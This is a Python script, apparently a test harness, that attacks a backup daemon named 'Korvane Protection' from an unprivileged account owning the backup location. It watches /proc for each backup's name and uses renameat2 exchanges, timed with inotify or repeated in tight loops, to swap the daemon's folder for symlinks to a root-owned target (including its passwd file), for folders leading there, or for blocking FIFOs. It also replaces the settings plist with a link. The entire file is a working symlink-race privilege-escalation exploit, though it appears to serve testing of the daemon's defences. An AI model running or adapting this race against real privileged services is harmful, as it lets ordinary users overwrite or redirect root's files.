"""What the owner of a backup location may try, over and over, while the daemon works there.

    location_attacker.py LOCATION TARGET SECONDS

Runs as an ordinary account that owns LOCATION. TARGET is a folder of root's that this account cannot
write. It exchanges the daemon's folder at the location for others of the same name: links to
TARGET, folders with links to it, folders with FIFOs. Learns the name of the backup that is coming
from the helper's command line. Prints how often it exchanged them.
"""

import contextlib
import ctypes
import itertools
import os
import select
import sys
import time

LOCATION, TARGET, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
FOLDER = f"{LOCATION}/Korvane Protection"
SPARE = f"{LOCATION}/spare"
SETTINGS = f"{LOCATION}/.KorvaneProtection.plist"
LIBC = ctypes.CDLL(None)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_OPEN = 0x20


def exchange(one, other):
    return LIBC.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other),
                          RENAME_EXCHANGE) == 0


def coming_backup():
    """The name of the file that a running helper was told to write; None without a helper."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        with contextlib.suppress(OSError), open(f"/proc/{name}/cmdline", "rb") as file:
            for word in file.read().split(b"\0"):
                if b"/Directory Backup 2" in word and word.startswith(b"/Library/"):
                    return os.path.basename(os.fsdecode(word))
    return None


def folder_with_links(name):
    """As the daemon's own folder, with a link of the copy's name in it."""
    path = f"{LOCATION}/links"
    os.makedirs(f"{path}/Data", exist_ok=True)
    with contextlib.suppress(FileExistsError):
        os.symlink(f"{TARGET}/passwd", f"{path}/Data/{name}")
    return path


def link_to_the_target(_):
    path = f"{LOCATION}/whole"
    with contextlib.suppress(FileExistsError):
        os.symlink(TARGET, path)
    return path


def folder_that_leads_to_the_target(_):
    path = f"{LOCATION}/inner"
    os.makedirs(path, exist_ok=True)
    with contextlib.suppress(FileExistsError):
        os.symlink(f"{TARGET}/Data", f"{path}/Data")
    return path


def folder_with_pipes(name):
    path = f"{LOCATION}/pipes"
    os.makedirs(f"{path}/Data", exist_ok=True)
    with contextlib.suppress(FileExistsError):
        os.mkfifo(f"{path}/Data/{name}")
    return path


def links_for_settings():
    """The settings copy is a link, too."""
    with contextlib.suppress(OSError):
        os.unlink(SETTINGS)
    with contextlib.suppress(OSError):
        os.symlink(f"{TARGET}/new settings", SETTINGS)


def flicker(name, other, until):
    """Exchanges all the time until another backup comes; answers how often."""
    count = 0
    while time.monotonic() < until:
        for _ in range(200):
            count += exchange(FOLDER, other)
            count += exchange(FOLDER, other)
        links_for_settings()
        if (coming_backup() or name) != name:
            break
    return count


def strike(name, other, until):
    """Exchanges once, the moment the daemon opens the folder that the copy goes to, after it has
    looked at it, and back when the copy is over; answers how often."""
    watch = LIBC.inotify_init1(os.O_CLOEXEC)
    poll = select.poll()
    poll.register(watch, select.POLLIN)
    if LIBC.inotify_add_watch(watch, os.fsencode(f"{FOLDER}/Data"), IN_OPEN) < 0:
        time.sleep(0.001)
    count = 0
    while time.monotonic() < until and not count:
        if poll.poll(20):
            count += exchange(FOLDER, other)
        elif (coming_backup() or name) != name:
            break
    os.close(watch)
    if count:
        time.sleep(0.2)
        count += exchange(FOLDER, other)
    return count


# One for each backup that comes, of which there are some nine in 45 seconds; the FIFO, which holds
# up whoever opens it, last.
ATTACKS = [(strike, folder_with_links), (flicker, folder_with_links), (strike, folder_with_links),
           (flicker, link_to_the_target), (strike, folder_that_leads_to_the_target),
           (flicker, folder_that_leads_to_the_target), (strike, folder_with_links),
           (strike, link_to_the_target), (flicker, folder_with_pipes)]


def main():
    until = time.monotonic() + SECONDS
    count = 0
    attacks = itertools.cycle(ATTACKS)
    while time.monotonic() < until:
        name = coming_backup()
        if name:
            attack, kind = next(attacks)
            count += attack(name, kind(name), until)
    print(count)


main()
